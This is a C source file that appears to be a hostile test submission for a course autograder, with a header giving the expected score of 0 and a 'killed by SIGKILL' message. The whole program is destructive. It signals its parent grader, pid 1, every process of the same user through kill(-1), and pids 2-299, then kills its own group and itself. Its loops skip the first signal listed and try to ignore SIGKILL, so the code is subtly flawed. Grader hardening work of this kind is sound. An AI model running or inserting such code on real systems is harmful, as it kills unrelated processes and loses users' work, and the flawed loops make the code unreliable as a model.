/**
 * @file
 * @brief Hostile: kills its parent, pid 1, its process group, every process that it may, and then itself.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 0
 * Says: was killed by SIGKILL
 *
 * The parent of a program is the grader, or a process that the grader waits for. kill(-1) reaches every process of
 * the same user, for example the instructor's editor.
 */
#define _DEFAULT_SOURCE

#include <signal.h>
#include <unistd.h>

int main(void)
{
    const int signals[] = {SIGTERM, SIGHUP, SIGINT, SIGQUIT, SIGCHLD, SIGUSR1, SIGKILL};
    for (int i = 1; i < 7; i++)
        signal(signals[i], SIG_IGN);
    for (int i = 1; i < 7; i++) {
        kill(getppid(), signals[i]);
        kill(1, signals[i]);
        kill(-1, signals[i]);
        for (pid_t other = 2; other < 300; other++)
            if (other != getpid())
                kill(other, signals[i]);
    }
    kill(0, SIGKILL);
    raise(SIGKILL);
}
